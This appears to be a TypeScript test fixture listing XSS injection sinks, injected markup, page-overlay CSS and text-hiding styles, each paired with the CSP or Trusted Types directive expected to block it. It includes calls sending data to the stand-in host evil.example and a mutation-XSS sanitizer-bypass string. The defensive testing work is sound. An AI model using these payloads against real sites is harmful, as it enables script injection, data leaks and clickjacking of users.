/** The address that leaked data would reach. */
export const FOREIGN = 'https://evil.example';
const planted = 'window.planted = true';

/** What a script on the page tries that was smuggled in, as the body of a function, and the directives that may refuse it. */
export const SINKS: Readonly<Record<string, readonly [code: string, ...directives: readonly string[]]>> = {
  'HTML into an element': [
    `document.body.append(document.createElement('p')); document.body.lastChild.innerHTML = '<img src=x onerror="${planted}">';`,
    'require-trusted-types-for',
  ],
  'HTML over an element': [
    `const p = document.createElement('p'); document.body.append(p); p.outerHTML = '<img src=x onerror="${planted}">';`,
    'require-trusted-types-for',
  ],
  'HTML beside an element': [
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${planted}">');`,
    'require-trusted-types-for',
  ],
  'HTML into the document': [`document.write('<script>${planted}</script>');`, 'require-trusted-types-for'],
  'HTML into a range': [
    `document.body.append(document.createRange().createContextualFragment('<script>${planted}</script>'));`,
    'require-trusted-types-for',
  ],
  'HTML into a parser': [
    "new DOMParser().parseFromString('<p>x</p>', 'text/html');",
    'require-trusted-types-for',
  ],
  'HTML into a frame': [
    `const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.${planted}</script>'; document.body.append(frame);`,
    'require-trusted-types-for',
  ],
  'an address into a script': [
    `const script = document.createElement('script'); script.src = '${FOREIGN}/script.js'; document.body.append(script);`,
    'require-trusted-types-for',
  ],
  'a data address into a script': [
    `const script = document.createElement('script'); script.src = "data:text/javascript,${planted}"; document.body.append(script);`,
    'require-trusted-types-for',
  ],
  'words into a script': [
    `const script = document.createElement('script'); script.text = "${planted}"; document.body.append(script);`,
    'require-trusted-types-for',
  ],
  'a node of words into a script': [
    `const script = document.createElement('script'); script.append("${planted}"); document.body.append(script);`,
    'require-trusted-types-for',
    'script-src-elem',
  ],
  'a handler into an attribute': [
    `const b = document.createElement('button'); b.setAttribute('onclick', "${planted}"); document.body.append(b); b.click();`,
    'require-trusted-types-for',
    'script-src-attr',
  ],
  'words to be evaluated': [`(0, eval)("${planted}");`, 'require-trusted-types-for', 'script-src'],
  'a function of words': [`new Function("${planted}")();`, 'require-trusted-types-for', 'script-src'],
  'words for later': [`setTimeout("${planted}");`, 'require-trusted-types-for', 'script-src'],
  'a script as an address': [
    `const a = document.createElement('a'); a.href = "javascript:void(${planted})"; document.body.append(a); a.click();`,
    'require-trusted-types-for',
    'script-src-elem',
  ],
  'a worker': [
    `new Worker(URL.createObjectURL(new Blob(["fetch('${FOREIGN}/worker')"])));`,
    'require-trusted-types-for',
    'worker-src',
    'script-src',
  ],
  'a policy of its own': [
    "trustedTypes.createPolicy('evil', { createHTML: (text) => text });",
    'trusted-types',
  ],
  'a call': [`fetch('${FOREIGN}/call').catch(() => {});`, 'connect-src'],
  'a beacon': [`navigator.sendBeacon('${FOREIGN}/beacon', 'x');`, 'connect-src'],
  'a socket': [`new WebSocket('${FOREIGN.replace('https', 'wss')}/socket');`, 'connect-src'],
  'a stream of events': [`new EventSource('${FOREIGN}/events');`, 'connect-src'],
  'a picture': [`new Image().src = '${FOREIGN}/picture.png';`, 'img-src'],
  'a frame': [
    `const f = document.createElement('iframe'); f.src = '${FOREIGN}/frame'; document.body.append(f);`,
    'frame-src',
  ],
  'a form': [
    `const form = document.createElement('form'); form.action = '${FOREIGN}/form'; form.target = '_blank'; document.body.append(form); form.submit();`,
    'form-action',
  ],
};

/** What a document holds that somebody injected in transit, and the directives that refuse it. */
export const WRITTEN_IN: Readonly<Record<string, readonly [html: string, directive: string]>> = {
  'an inline script': [`<script>${planted}</script>`, 'script-src-elem'],
  'an inline module': [`<script type="module">${planted}</script>`, 'script-src-elem'],
  'a script from elsewhere': [`<script src="${FOREIGN}/script.js"></script>`, 'script-src-elem'],
  'a script in its own address': [
    `<script src="data:text/javascript,${planted}"></script>`,
    'script-src-elem',
  ],
  'a handler': [`<img alt="" src="/nothing.png" onerror="${planted}">`, 'script-src-attr'],
  'a picture from elsewhere': [`<img alt="" src="${FOREIGN}/picture.png">`, 'img-src'],
  'an inline style': ['<style>body { background: red !important }</style>', 'style-src-elem'],
  'a style attribute': ['<p style="position: fixed; inset: 0">over everything</p>', 'style-src-attr'],
  'a style sheet from elsewhere': [`<link rel="stylesheet" href="${FOREIGN}/style.css">`, 'style-src-elem'],
  'a frame from elsewhere': [`<iframe title="x" src="${FOREIGN}/frame"></iframe>`, 'frame-src'],
  'an object': [`<object data="${FOREIGN}/object"></object>`, 'object-src'],
  'another base': [`<base href="${FOREIGN}/">`, 'base-uri'],
};

/** Styles by which a document tries to paint over the page around it, to be pressed in its place, or to vanish from it. */
export const DOCUMENT_STYLES: Readonly<Record<string, string>> = {
  'fixed over all': 'p { position: fixed; inset: 0; background: red; z-index: 9999 }',
  'fixed, with a comment inside': 'p { position:/**/fixed; inset: 0; background: red }',
  'fixed, with a comment in the name':
    'p { pos/**/ition: fixed } p { position: fixed/**/; inset: 0; background: red }',
  'fixed, by an escape': 'p { position: f\\69xed; inset: 0; background: red }',
  'fixed, by an escaped name': 'p { p\\6fsition: fixed; inset: 0; background: red }',
  'fixed, in capitals': 'P { POSITION: FIXED; INSET: 0; BACKGROUND: RED }',
  'fixed, important': 'p { position: fixed !important; inset: 0 !important; background: red !important }',
  'fixed, by a variable': ':host { --p: fixed } p { position: var(--p); inset: 0; background: red }',
  'fixed, by a fallback of a variable': 'p { position: var(--none, fixed); inset: 0; background: red }',
  'absolute over the heading':
    'p { position: absolute; inset-block-start: -12rem; inset-inline: 0; background: white }',
  'absolute, over the window': 'p { position: absolute; inset: -100vh -100vw; background: red }',
  'sticky at the edge': 'p { position: sticky; inset-block-start: 0; background: red; width: 200vw }',
  'relative, moved up': 'p { position: relative; inset-block-start: -20rem; background: red }',
  'the box itself fixed':
    ':host { position: fixed !important; inset: 0 !important; background: red !important }',
  'the box itself absolute':
    ':host { position: absolute !important; inset: -50vh !important; background: red !important }',
  'the box itself as its contents':
    ':host { display: contents !important } p { position: fixed; inset: 0; background: red }',
  'the box itself moved': ':host { transform: translateY(-30rem) !important; background: red !important }',
  'the box itself, by its place': ':host-context(body) { position: fixed; inset: 0; background: red }',
  'the box itself, by a function': ':host(div) { position: fixed !important; inset: 0; background: red }',
  'a negative margin': 'p { margin-block-start: -30rem; background: red }',
  'negative margins at the sides': 'p { margin-inline: -100vw; background: red; height: 50vh }',
  'a generated text before':
    "p::before { content: 'Amount $0.01'; position: fixed; inset: 0; background: white }",
  'a generated text after': "p::after { content: 'x'; position: absolute; inset: -99rem; background: red }",
  'a generated text of the box': ":host::before { content: 'x'; position: fixed; inset: 0; background: red }",
  'a transparent link over the page': 'a { position: fixed; inset: 0; opacity: 0; z-index: 9999 }',
  'a link grown over the page': 'a { display: block; padding: 200vh; margin: -200vh; opacity: 0 }',
  'a transform': 'p { transform: translate(-20rem, -20rem) scale(40); background: red }',
  'a translation': 'p { translate: 0 -20rem; scale: 40; background: red }',
  'a zoom': 'p { zoom: 50; background: red }',
  'a shadow': 'p { box-shadow: 0 0 0 200vmax red }',
  'an outline': 'p { outline: 200vmax solid red }',
  'a shadow of text': 'p { text-shadow: 0 -10rem 0 red, 0 -20rem 0 red; font-size: 5em }',
  'a filter': 'p { filter: drop-shadow(0 -20rem 0 red) }',
  'a border image': 'p { border: 1px solid; border-image: linear-gradient(red, red) 1 / 1 / 100vh }',
  'an indent': 'p { text-indent: -60rem }',
  'a float': 'p { float: left; margin: -40rem; width: 200vw; height: 200vh; background: red }',
  'an animation':
    '@keyframes k { to { transform: translateY(-40rem) } } p { animation: k 1ms forwards; background: red }',
  'a layer': '@layer x { p { position: fixed; inset: 0; background: red } }',
  'a condition': '@supports (color: red) { p { position: fixed; inset: 0; background: red } }',
  'a condition of the window': '@media all { p { position: fixed; inset: 0; background: red } }',
  'a nested rule': 'article { & p { position: fixed; inset: 0; background: red } }',
  'an anchor': 'p { position-anchor: --x; position: fixed; position-area: top; background: red }',
  'the top of the page': 'p { position: fixed; top: 0; overlay: auto !important; background: red }',
  'a registered variable':
    "@property --q { syntax: '*'; inherits: true; initial-value: fixed } p { position: var(--q); inset: 0 }",
  'an unclosed comment': 'p { color: red } /* } p { position: fixed',
  'an end of its element': 'p { position: fixed; inset: 0 } </sty<b></b>le>',
};

/** Markup that tries the same, or to be wider than its box. */
export const DOCUMENT_MARKUP: Readonly<Record<string, string>> = {
  'a style attribute': '<p style="position:fixed;inset:0;background:red">x</p>',
  'a style attribute without quotes': '<p/style=position:fixed;inset:0;background:red>x</p>',
  'an event attribute': `<p onclick="${planted}" onmouseover="${planted}">x</p><b onfocus=${planted} tabindex=0 autofocus>x</b>`,
  'an event attribute of an image': `<img src="${FOREIGN}/picture.png" onerror="${planted}">`,
  'a body of its own': `<body onload="${planted}" style="position:fixed" background="${FOREIGN}/b.png">x`,
  'an svg': `<svg onload="${planted}" style="position:fixed;inset:0"><style>p{position:fixed}</style><rect width="9999" height="9999"/></svg>`,
  'a style within mathematics': `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${planted}&gt;"></math>`,
  'a script': `<script>${planted}</script><script src="${FOREIGN}/script.js"></script>`,
  'a frame': `<iframe src="${FOREIGN}/frame" style="position:fixed"></iframe><iframe srcdoc="<script>${planted}</script>"></iframe>`,
  'a popover': '<div popover id="x" style="inset:0">x</div><button popovertarget="x" autofocus>x</button>',
  'a dialog': '<dialog open style="position:fixed;inset:0">x</dialog>',
  'a wide table': `<table><tr>${'<td>Amount</td>'.repeat(90)}</tr></table>`,
  'a long line': `<pre>${'Amount '.repeat(200)}</pre>`,
  'a rule wider than the page': '<hr width="9000">',
  'a long word': `<p>${'Amount'.repeat(200)}</p>`,
  'a row of columns': '<table width="9000"><tr><td width="9000" bgcolor="red">x</td></tr></table>',
  'a marquee': '<marquee behavior="alternate" scrollamount="999" width="9000">x</marquee>',
};

/** Styles by which a document, or a part of it, cannot be read although its text is there. */
export const HIDING_STYLES: readonly string[] = [
  ':host { display: none }',
  ':host { display: none !important }',
  'p { display: none }',
  'p { visibility: hidden }',
  ':host { opacity: 0 }',
  'p { opacity: 0.1 }',
  'p { font-size: 0 }',
  'p { font-size: 2px }',
  'p { color: white }',
  'p { color: transparent }',
  'p { color: rgb(250 250 250) }',
  'article { background: black; color: black }',
  'p { text-indent: -999rem; white-space: nowrap }',
  'p { margin-inline-start: -999rem; width: 10rem }',
  'p { content-visibility: hidden }',
  'p { line-height: 0.1; width: 4rem }',
  'article { display: grid } article > * { grid-area: 1 / 1 }',
];
